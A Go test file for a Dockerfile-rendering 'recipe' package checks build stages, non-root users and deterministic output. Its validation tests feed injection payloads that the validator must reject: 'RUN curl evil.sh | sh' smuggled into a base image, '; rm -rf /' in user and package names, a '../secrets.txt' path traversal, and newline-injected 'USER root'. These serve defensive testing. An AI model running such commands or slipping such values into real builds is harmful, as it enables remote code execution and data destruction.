package recipe

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"gopkg.in/yaml.v3"
)

func stages(t *testing.T, dockerfile string) (builder, runtime string) {
	t.Helper()
	idx := strings.Index(dockerfile, "\n# runtime\n")
	require.Positive(t, idx, "runtime stage marker missing")
	return dockerfile[:idx], dockerfile[idx:]
}

func TestRender_Default(t *testing.T) {
	out, err := Render(Default())
	require.NoError(t, err)
	df := string(out)

	builder, runtime := stages(t, df)

	assert.Contains(t, builder, "FROM python:3.11-slim AS builder")
	assert.Contains(t, builder, "build-essential")
	assert.Contains(t, builder, "libpq-dev")
	assert.Contains(t, builder, "pip install --prefix=/install -r requirements.txt")

	assert.Contains(t, runtime, "FROM python:3.11-slim\n")
	assert.Contains(t, runtime, "COPY --from=builder /install /usr/local")
	assert.Contains(t, runtime, "libpq5")
	assert.Contains(t, runtime, "chromium-driver")
	assert.Contains(t, runtime, `ENV CHROME_BIN="/usr/bin/chromium"`)
	assert.Contains(t, runtime, `ENV CHROMEDRIVER_PATH="/usr/bin/chromedriver"`)
	assert.Contains(t, runtime, "USER appuser")
	assert.Contains(t, runtime, "EXPOSE 8000")
	assert.Contains(t, runtime, `CMD ["uvicorn","app.main:app","--host","0.0.0.0","--port","8000"]`)

	for _, tool := range []string{"build-essential", "gcc", "libpq-dev"} {
		assert.NotContains(t, runtime, tool, "runtime stage must not install %s", tool)
	}
	assert.True(t, strings.Index(runtime, "USER appuser") < strings.Index(runtime, "CMD "), "must drop privileges before CMD")
}

func TestRender_Deterministic(t *testing.T) {
	r := Default()
	r.Env = map[string]string{"B": "2", "A": "1", "TZ": "UTC"}

	first, err := Render(r)
	require.NoError(t, err)
	for i := 0; i < 5; i++ {
		again, err := Render(r)
		require.NoError(t, err)
		assert.Equal(t, string(first), string(again))
	}
	assert.Less(t, strings.Index(string(first), "ENV A="), strings.Index(string(first), "ENV B="))
}

func TestRender_WithoutBrowser(t *testing.T) {
	r := Recipe{RuntimePackages: []string{"libpq5"}}
	out, err := Render(r)
	require.NoError(t, err)
	assert.NotContains(t, string(out), "CHROME_BIN")
	assert.Contains(t, string(out), `"--port","8000"`)
}

func TestValidate(t *testing.T) {
	cases := map[string]struct {
		mutate  func(*Recipe)
		wantErr string
	}{
		"default is valid": {mutate: func(*Recipe) {}},
		"root user": {
			mutate:  func(r *Recipe) { r.User = "root" },
			wantErr: "non-root",
		},
		"uid zero": {
			mutate:  func(r *Recipe) { r.User = "0" },
			wantErr: "non-root",
		},
		"bad port": {
			mutate:  func(r *Recipe) { r.Port = 70000 },
			wantErr: "invalid port",
		},
		"compiler in runtime": {
			mutate:  func(r *Recipe) { r.RuntimePackages = append(r.RuntimePackages, "gcc") },
			wantErr: `toolchain package "gcc"`,
		},
		"versioned compiler in browser packages": {
			mutate:  func(r *Recipe) { r.Browser.Packages = append(r.Browser.Packages, "gcc-12") },
			wantErr: `toolchain package "gcc-12"`,
		},
		"install prefix overlapping system": {
			mutate:  func(r *Recipe) { r.InstallPrefix = "/usr/local" },
			wantErr: "install prefix",
		},
		"relative app dir": {
			mutate:  func(r *Recipe) { r.AppDir = "app" },
			wantErr: "plain absolute path",
		},
		"instruction in base image": {
			mutate:  func(r *Recipe) { r.BaseImage = "python:3.11-slim\nRUN curl evil.sh | sh" },
			wantErr: "base image",
		},
		"shell in user": {
			mutate:  func(r *Recipe) { r.User = "app; rm -rf /" },
			wantErr: "invalid user name",
		},
		"manifest outside context": {
			mutate:  func(r *Recipe) { r.Manifest = "../secrets.txt" },
			wantErr: "manifest",
		},
		"newline in manifest": {
			mutate:  func(r *Recipe) { r.Manifest = "requirements.txt\nRUN id" },
			wantErr: "manifest",
		},
		"space in app dir": {
			mutate:  func(r *Recipe) { r.AppDir = "/app && id" },
			wantErr: "plain absolute path",
		},
		"browser path with newline": {
			mutate:  func(r *Recipe) { r.Browser.DriverPath = "/usr/bin/x\nUSER root" },
			wantErr: "plain absolute path",
		},
		"bad env name": {
			mutate:  func(r *Recipe) { r.Env = map[string]string{"A=1\nUSER root\nENV B": "x"} },
			wantErr: "environment variable",
		},
		"shell in package name": {
			mutate:  func(r *Recipe) { r.BuildPackages = []string{"gcc; rm -rf /"} },
			wantErr: "invalid package name",
		},
	}

	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			r := Default()
			tc.mutate(&r)
			err := r.Validate()
			if tc.wantErr == "" {
				assert.NoError(t, err)
				return
			}
			require.Error(t, err)
			assert.Contains(t, err.Error(), tc.wantErr)
		})
	}
}

func TestRender_RejectsInvalid(t *testing.T) {
	r := Default()
	r.User = "root"
	_, err := Render(r)
	assert.Error(t, err)
}

func TestDecodeYAML(t *testing.T) {
	src := `
base_image: python:3.12-slim
build_packages: [gcc, libpq-dev]
runtime_packages: [libpq5]
browser:
  packages: [chromium, chromium-driver]
port: 9000
`
	var r Recipe
	dec := yaml.NewDecoder(strings.NewReader(src))
	dec.KnownFields(true)
	require.NoError(t, dec.Decode(&r))
	r.ApplyDefaults()

	assert.Equal(t, "python:3.12-slim", r.BaseImage)
	assert.Equal(t, "appuser", r.User)
	assert.Equal(t, []string{"uvicorn", "app.main:app", "--host", "0.0.0.0", "--port", "9000"}, r.Command)
	assert.Equal(t, defaultBrowserBinary, r.Browser.BinaryPath)
	require.NoError(t, r.Validate())
}
